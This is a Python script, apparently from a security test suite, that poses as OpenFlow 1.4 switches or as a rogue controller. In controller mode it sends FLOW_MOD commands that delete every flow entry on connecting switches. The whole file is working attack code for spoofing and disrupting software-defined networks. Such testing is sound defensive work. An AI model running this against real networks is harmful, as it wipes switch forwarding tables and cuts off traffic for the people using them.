"""The program of somebody who poses as a switch, or as a controller, in plain OpenFlow 1.4.

python -m evidence.attacks.speakers switch ADDRESS PORT COUNT      pose as COUNT switches
python -m evidence.attacks.speakers controller ADDRESS PORT COUNT  send COUNT commands to clients
"""

import socket
import struct
import sys
import time
from collections.abc import Iterator

from qmn.timeouts import SPEAKER_TIMEOUT_S

VERSION = 5
HELLO, ECHO_REQUEST, ECHO_REPLY, FEATURES_REQUEST, FEATURES_REPLY = 0, 2, 3, 5, 6
FLOW_MOD, MULTIPART_REQUEST, MULTIPART_REPLY = 14, 18, 19
BARRIER_REQUEST, BARRIER_REPLY = 20, 21
PORT_DESC = 13
HEADER = struct.Struct("!BBHI")
FEATURES = struct.Struct("!QIBB2xII")
FIRST_DPID = 0x666000


def message(kind: int, xid: int, body: bytes = b"") -> bytes:
    return HEADER.pack(VERSION, kind, HEADER.size + len(body), xid) + body


def messages(connection: socket.socket) -> Iterator[tuple[int, int, bytes]]:
    """Yield kind, xid and body of each message, until the other end closes or is silent."""
    with connection.makefile("rb") as stream:
        while len(header := stream.read(HEADER.size)) == HEADER.size:
            _version, kind, length, xid = HEADER.unpack(header)
            yield kind, xid, stream.read(max(0, length - HEADER.size))


def pose_as_switch(address: tuple[str, int], dpid: int) -> bool:
    """Connect as a switch; return whether the controller has programmed it."""
    with socket.create_connection(address, SPEAKER_TIMEOUT_S) as connection:
        connection.settimeout(SPEAKER_TIMEOUT_S)
        connection.sendall(message(HELLO, 1))
        for kind, xid, body in messages(connection):
            if kind == FEATURES_REQUEST:
                features = FEATURES.pack(dpid, 0, 254, 0, 0x4F, 0)
                connection.sendall(message(FEATURES_REPLY, xid, features))
            elif kind == MULTIPART_REQUEST and body[:2] == PORT_DESC.to_bytes(2, "big"):
                reply = struct.pack("!HH4x", PORT_DESC, 0)
                connection.sendall(message(MULTIPART_REPLY, xid, reply))
            elif kind == FLOW_MOD:
                return True
    return False


def pose_as_controller(address: tuple[str, int], orders: int) -> int:
    """Wait for switches where they look for their controller; return how many orders they obey.

    An order is a FLOW_MOD that deletes what there is, which a barrier's reply says to be done.
    """
    deadline, obeyed = time.monotonic() + 2 * SPEAKER_TIMEOUT_S, 0
    with socket.create_server(address) as server:
        print("listening", flush=True)
        while obeyed < orders and (left_s := deadline - time.monotonic()) > 0:
            server.settimeout(left_s)
            try:
                connection, _peer = server.accept()
                with connection:
                    obeyed += order(connection, orders)
            except OSError:
                continue  # the peer has left, or none came
    return obeyed


def order(connection: socket.socket, orders: int) -> int:
    """Give orders to a switch; return how many it has obeyed."""
    connection.settimeout(SPEAKER_TIMEOUT_S)
    connection.sendall(message(HELLO, 1) + message(FEATURES_REQUEST, 2))
    obeyed = 0
    for kind, xid, body in messages(connection):
        if kind == FEATURES_REPLY:
            for number in range(orders):
                connection.sendall(message(FLOW_MOD, 100 + number, deletion()))
                connection.sendall(message(BARRIER_REQUEST, 100 + number))
        elif kind == ECHO_REQUEST:
            connection.sendall(message(ECHO_REPLY, xid, body))
        elif kind == BARRIER_REPLY:
            obeyed += 1
            if obeyed == orders:
                break
    return obeyed


def deletion() -> bytes:
    """Return the body of the FLOW_MOD that deletes every entry (OpenFlow 1.4, 7.3.4.1)."""
    delete, anything = 3, 0xFFFFFFFF
    fixed = struct.pack(
        "!QQBBHHHIIIHH", 0, 0, 0, delete, 0, 0, 0, anything, anything, anything, 0, 0
    )
    return fixed + struct.pack("!HH4x", 1, 4)  # a match of nothing, so of everything


def main() -> None:
    what, host, port, count = sys.argv[1:]
    address = host, int(port)
    if what == "switch":
        posed = range(FIRST_DPID, FIRST_DPID + int(count))
        done = 0
        for dpid in posed:
            try:
                done += pose_as_switch(address, dpid)
            except OSError:
                continue  # sent away
    else:
        done = pose_as_controller(address, int(count))
    print(f"count={done}", flush=True)


if __name__ == "__main__":
    main()
